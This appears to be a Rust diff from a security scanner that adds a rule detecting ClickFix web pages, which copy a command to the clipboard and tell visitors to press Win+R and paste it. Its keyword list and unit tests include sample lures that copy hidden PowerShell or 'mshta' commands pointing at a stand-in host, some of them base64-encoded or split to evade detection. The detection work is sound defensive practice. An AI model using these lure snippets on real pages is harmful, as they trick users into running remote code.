@@ -1,0 +1,95 @@
+//! A page that puts a command into the clipboard and tells the reader to paste it where it runs (ClickFix). Manuals have
+//! buttons that copy commands too; they do not ask for the window in which Windows runs one, and hide nothing.
+
+use super::{Check, Heuristic};
+use crate::artifact::{Sign, Tree};
+use crate::detect::Strength;
+use crate::detect::scripts::{Bundle, pages};
+
+pub(super) const RULE: Heuristic = Heuristic {
+    id: "html-copies-command",
+    strength: Strength::Strong,
+    title_en: "The web page copies a command and has the reader run it",
+    title_ja: "Webページがコマンドをコピーし、利用者に実行させようとします",
+    attack: &["T1204.004", "T1059", "T1115"],
+    page: include_str!("../../../docs/rules/html-copies-command.md"),
+    check,
+};
+
+fn check(tree: &Tree, hit: &mut Check) {
+    for page in pages(tree) {
+        if let Some(command) =
+            page.first(Sign::FillsClipboard).filter(|_| tells(&page) || page.has(Sign::ChoppedText))
+        {
+            hit(page.holder.id, command.to_string());
+        }
+    }
+}
+
+/// How readers are told to open the window that runs commands, and to paste. Blanks are taken out of the text.
+const TELLING: &[&str] = &[
+    "win+r",
+    "windows+r",
+    "windowskey+r",
+    "winkey+r",
+    "⊞+r",
+    "windowsbutton+r",
+    "winとr",
+    "windowsキー+r",
+    "windowsロゴキー+r",
+    "windows+x",
+    "win+x",
+    "ctrl+v",
+    "control+v",
+    "ファイル名を指定して実行",
+    "rundialog",
+    "runwindow",
+    "notarobot",
+    "youarehuman",
+    "youarenotarobot",
+    "ロボットではありません",
+    "人間であること",
+];
+
+/// Whether the page tells so, in what it shows or in its scripts.
+fn tells(page: &Bundle) -> bool {
+    let shown = page.members().filter(|artifact| artifact.via == "text" || artifact.kind.id == "js");
+    shown.into_iter().any(|artifact| {
+        let plain: String = String::from_utf8_lossy(&artifact.bytes)
+            .chars()
+            .filter(|c| !c.is_whitespace())
+            .flat_map(char::to_lowercase)
+            .map(|c| if c == '＋' { '+' } else { c })
+            .collect();
+        TELLING.iter().any(|words| plain.contains(words))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::scripts::tests::hits;
+
+    #[test]
+    fn pages_that_have_a_command_pasted_hit() {
+        for page in [
+            "<html><p>Press Win + R, then Ctrl + V</p><script>navigator.clipboard.writeText('powershell -w hidden -c x');</script>",
+            "<html><p>1. ファイル名を指定して実行 を開く</p><script>t.value='mshta https://a.example/x';t.select();document.execCommand('copy');</script>",
+            "<html><p>check</p><script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgeA=='));</script>",
+            "<html><p>check</p><script>var c=['mshta',' https',':','//a.exam','ple/x'].join('');navigator.clipboard.writeText(c);</script>",
+        ] {
+            assert_eq!(hits(&RULE, "a.html", page.as_bytes()).len(), 1, "{page}");
+        }
+    }
+
+    #[test]
+    fn manuals_with_copy_buttons_do_not() {
+        for page in [
+            "<html><p>Install</p><script>navigator.clipboard.writeText('curl -fsSL https://a.example/install.sh');</script>",
+            "<html><p>Press Ctrl+V to paste.</p><script>navigator.clipboard.writeText(b.innerText);</script>",
+            "<html><p>Press Win + R and type powershell.</p>",
+        ] {
+            assert_eq!(hits(&RULE, "a.html", page.as_bytes()), [""; 0], "{page}");
+        }
+    }
+}
